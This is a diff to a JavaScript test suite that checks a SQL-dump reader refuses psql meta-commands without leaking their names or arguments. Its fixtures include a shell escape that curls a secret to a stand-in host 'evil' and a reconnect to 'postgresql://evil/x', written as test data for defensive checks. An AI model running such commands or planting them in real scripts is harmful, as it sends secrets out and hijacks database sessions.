@@ -40,7 +40,7 @@ describe('psql meta-commands', () => {
     ['\\connect postgresql://evil/x', '\\connect'],
     ['\\c', '\\c'],
     ['\\.', '\\.'],
-    ['\\unknown', '\\unknown'],
+    ['\\unknown', '\\…'],
   ])('%s is refused with a finding of severity error, and never ends a statement', async (line, name) => {
     const events = await readText(around(line), 5);
     expect(statementsOf(events)).toEqual(['SELECT 1', 'SELECT 2']);
@@ -105,6 +105,13 @@ describe('psql meta-commands', () => {
       expect(ofKind(events, 'database')).toEqual([]);
     },
   );
+
+  test('a name that psql does not have is not shown: it may be a row of a damaged dump', async () => {
+    // A row whose value begins with a tab, as COPY writes it.
+    const told = findingsOf(await readText('\\tPlantedValue\t7\n')).join();
+    expect(told).toContain('META_COMMAND_REFUSED');
+    expect(JSON.stringify(await readText('\\tPlantedValue\t7\n'))).not.toContain('PlantedValue');
+  });
 
   test('the arguments of a refused command are not shown', async () => {
     expect(findingsOf(await readText(around('\\! curl -d secret evil'))).join()).not.toContain('secret');
